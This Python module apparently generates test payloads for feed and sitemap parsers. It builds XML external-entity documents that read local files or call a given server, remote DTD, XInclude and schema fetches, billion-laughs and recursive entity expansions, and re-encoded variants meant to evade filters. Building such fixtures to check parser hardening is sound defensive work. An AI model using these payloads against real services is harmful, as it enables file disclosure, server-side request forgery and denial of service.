"""XML that wants to read files, call servers or fill the memory, as feeds and sitemaps."""

from __future__ import annotations

from itertools import product

_ROOTS = {
    "rss": '{head}<rss version="2.0" {attributes}><channel><title>{use}</title><item><title>{use}</title>'
    "<link>http://news.example/{use}</link>{inside}</item></channel></rss>",
    "atom": '{head}<feed xmlns="http://www.w3.org/2005/Atom" {attributes}><title>{use}</title><entry><id>1</id>'
    '<title>{use}</title><link href="http://news.example/a"/>{inside}</entry></feed>',
    "sitemap": '{head}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" {attributes}>'
    "<url><loc>http://news.example/{use}</loc>{inside}</url></urlset>",
}


def _declarations(file: str, server: str) -> list[tuple[str, str]]:
    """Heads with what uses them."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return [
        (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>', "&e;"),
        (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{server}/e">]>', "&e;"),
        (f'<!DOCTYPE x [<!ENTITY e PUBLIC "p" "{file}">]>', "&e;"),
        (f'<!doctype x [<!entity e system "{file}">]>', "&e;"),
        (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{server}/p.dtd">%p;]>', "&e;"),
        (f"<!DOCTYPE x [<!ENTITY % p \"<!ENTITY e SYSTEM '{file}'>\">%p;]>", "&e;"),
        (f'<!DOCTYPE x SYSTEM "{server}/x.dtd">', "&e;"),
        (f'<!DOCTYPE x PUBLIC "p" "{server}/x.dtd">', "&e;"),
        (f'<!DOCTYPE x SYSTEM "{file}" [<!ENTITY e "x">]>', "&e;"),
        (f'<!-- <a> --><!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>', "&e;"),
        (f'<?xml-stylesheet href="{server}/s.xsl" type="text/xsl"?>', ""),
        (f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>', "&l9;"),
        (f'<!DOCTYPE x [<!ENTITY e "{"a" * 100_000}">]>', "&e;" * 10_000),
        ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        (f'broken <!DOCTYPE x [<!ENTITY e "{"a" * 100_000}">]>', "&e;" * 10_000),
    ]


def _attributes(server: str) -> list[tuple[str, str]]:
    return [
        (f'xsi:schemaLocation="x {server}/x.xsd" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"', ""),
        (f'xml:base="{server}/"', ""),
        ('xmlns:xi="http://www.w3.org/2001/XInclude"', f'<xi:include href="{server}/i" parse="text"/>'),
    ]


def payloads(file: str, server: str) -> list[bytes]:
    """More than fifty documents that name a file (as a URL) or a server's URL, in several encodings."""
    found = [
        root.format(head=head, use=use, attributes="", inside="")
        for root, (head, use) in product(_ROOTS.values(), _declarations(file, server))
    ]
    found += [
        root.format(head="", use="x", attributes=attributes, inside=inside)
        for root, (attributes, inside) in product(_ROOTS.values(), _attributes(server))
    ]
    first = [
        root.format(head=_declarations(file, server)[0][0], use="&e;", attributes="", inside="")
        for root in _ROOTS.values()
    ]
    encoded = [
        document.encode(encoding)
        for document, encoding in product(first, ("utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "utf-7", "cp037"))
    ]
    return [document.encode() for document in found] + encoded
